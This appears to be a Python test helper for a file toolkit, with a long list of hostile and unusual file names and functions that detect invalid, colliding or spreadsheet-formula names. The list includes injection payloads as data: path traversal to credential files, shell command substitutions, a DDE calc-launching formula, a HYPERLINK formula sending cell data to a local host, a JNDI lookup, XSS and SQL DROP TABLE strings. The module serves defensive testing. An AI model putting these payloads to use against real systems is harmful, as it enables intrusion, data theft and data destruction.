"""Names that people, other systems and attackers give to things, and which names a file system takes for one."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterable
from pathlib import Path

# ruff: noqa: E501, RUF001
# fmt: off
NAMES = [
    # traversal, absolute paths, drives, shares, home, streams
    "../../../escape", "..\\..\\escape.txt", "....//....//escape", "/etc/passwd", "//server/share/x", "\\\\server\\c$\\x",
    "\\\\?\\C:\\escape", "\\\\.\\PhysicalDrive0", "C:escape.txt", "C:\\escape.txt", "c:/escape.txt", "file:///etc/passwd",
    "~/.ssh/authorized_keys", "a:b", "photo.jpg:hidden.exe", "photo.jpg::$DATA", "%2e%2e%2fescape", "..%c0%afescape",
    "a/../../b.png", "a/./b.png", "a//b.png", "a/", "/", ".", "..", "...", "~", "-rf", "--help", "$(id)", "`id`", "|id",
    # control characters, NUL, line ends, what steers a terminal
    "nul\0byte.png", "a\nb.png", "a\rb.png", "tab\there", "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "bell\x07", "\x7f",
    "\x9b31m", "a\u2028b", "a\u2029b", "\u0085", "back\x08\x08\x08space",
    # what is not seen, or turns the reading around
    "\u202egnp.exe", "a\u200bb.png", "\ufeffa.png", "a\u00adb.png", "\u2066x\u2069.png", "\u200f\u200e", "a\u034fb.png",
    # scripts, combining characters, emoji, what lies beyond 16 bits, half a surrogate pair
    "खाका.png", "แผนที่.png", "خريطة.png", "מפה.png", "𠮷野家.png", "👩‍👩‍👧‍👦.png", "🇨🇭.png", "Z͑ͫ̓ͪ̂ͫ̽͏̴a̷l͓g̀ọ.png", "ﷺ" * 60,
    "\ud800.png", "a\udfff",
    # devices of Windows, with and without an ending, in any case
    "CON", "con.txt", "PRN.", "AUX ", "nul.tar.gz", "COM0", "COM1.png", "com9", "COM¹", "LPT³.json", "conin$", "CONOUT$.x",
    "a/CON/b.png", "aux:", "CLOCK$",
    # dots and blanks at the ends, short names, hidden files, what tools take for their own
    "ends with dot.", "ends with blank ", " begins with blank", "dots...", "PROGRA~1", "LONGNA~1.PNG", ".htaccess", ".git",
    "Thumbs.db", "desktop.ini", "__MACOSX/._a", "Icon\r",
    # too long, too deep, in characters, in bytes and in UTF-16
    "a" * 255, "a" * 256, "ä" * 200, "漢" * 100, "🗺" * 128, "long" * 80 + ".png", "d/" * 80 + "x", "x." + "e" * 90,
    # one name to some file systems
    "ss.png", "ß.png", "SS.PNG", "ẞ.png", "i.png", "I.png", "İ.png", "ı.png", "k.png", "\u212a.png", "K.PNG", "σ.png",
    "ς.png", "Σ.png", "ﬁ.png", "fi.png", "FI.png", "caf\u00e9.png", "cafe\u0301.png", "CAFÉ.png", "\u212b.png", "\u00c5.png",
    "\u1e9b\u0323.png", "ſ.png", "S.png", "µ.png", "μ.png", "a", "A", "a/b", "A/B", "a/b/c",
    # what this toolkit itself makes
    "r", "R", "r/0123456789ab.png", "AllItems.csv", "backup.json", "journal", "item.json", "manifest.jsonl.gz",
    # formulas, markup, what a query language or a shell would run
    "=1+1", "+1", "-1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠x", "a;=1+1", 'x;"=1+1"', "a\t=1", "a\r\n=1",
    "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1)", "=cmd|' /C calc'!A0", "<script>alert(1)</script>", "<img src=x onerror=a()>",
    "\"><svg onload=a()>", "</script><b>", "&lt;b&gt;", "{{7*7}}", "${jndi:ldap://x}", "'; DROP TABLE items; --", "%s%n",
    "", " ", "null", "None", "NaN", "true", "0", "1e999",
]
# fmt: on
_PUBLISHED = Path(__file__).parents[1].parent / "shared" / "samples" / "odd" / "naughty-strings.json"


def names() -> list[str]:
    """Our list, and the well-known one where it is at hand."""
    published = json.loads(_PUBLISHED.read_text("utf-8")) if _PUBLISHED.exists() else []
    return list(dict.fromkeys([*NAMES, *published]))


_DEVICE = re.compile(
    r"(con|prn|aux|nul|com[0-9\u00b9\u00b2\u00b3]|lpt[0-9\u00b9\u00b2\u00b3]|conin\$|conout\$)[ ]*(\..*)?", re.I
)


def objections(path: str, *, longest: int) -> list[str]:
    """Why a relative path would be refused, changed or led elsewhere by some system; written without our own rules."""
    found = []
    if len(path.encode("utf-16-le", "surrogatepass")) > 2 * longest:
        found.append("too long")
    for name in path.split("/"):
        if name in ("", ".", ".."):
            found.append("leads elsewhere")
        if any(ord(each) < 32 or each in '<>:"\\|?*\x7f' for each in name):
            found.append("a character that Windows refuses")
        if any(0xD800 <= ord(each) < 0xE000 for each in name):
            found.append("no text")
        elif len(name.encode()) > 255:
            found.append("a name too long for ext4")
        if name[-1:] in (" ", "."):
            found.append("an end that Windows drops")
        if _DEVICE.fullmatch(name):
            found.append("a device of Windows")
        if unicodedata.normalize("NFC", name) != name:
            found.append("a name that macOS changes")
        if any(unicodedata.category(each) in ("Cc", "Cf", "Zl", "Zp") for each in name):
            found.append("something that is not seen")
    return found


def taken_for(path: str) -> set[str]:
    """Whatever a file system may take a path for: two whose sets meet may be one file."""
    forms = {path}
    for _ in range(2):  # what was composed may have another case, and the other way round
        for text in list(forms):
            forms |= {unicodedata.normalize("NFC", text), unicodedata.normalize("NFD", text)}
            forms |= {text.lower(), text.upper(), text.casefold(), text.upper().lower(), text.lower().upper()}
    return forms


def collisions(paths: Iterable[str]) -> list[tuple[str, str]]:
    """Pairs of paths that some file system takes for one file, or of which one is the other's folder."""
    seen: dict[str, str] = {}
    found = []
    ordered = list(paths)
    for path in ordered:
        forms = taken_for(path)
        found += [(seen[form], path) for form in forms if seen.get(form, path) != path]
        seen |= dict.fromkeys(forms, path)
    for path in ordered:
        folders = (path[:at] for at, each in enumerate(path) if each == "/")
        found += [(seen[form], path) for folder in folders for form in taken_for(folder) if form in seen]
    return found


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may run what a cell holds; written wider than any of them is known to be."""
    return bool(cell.strip()) and bool(re.match(r'[\s\ufeff"]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]', cell))
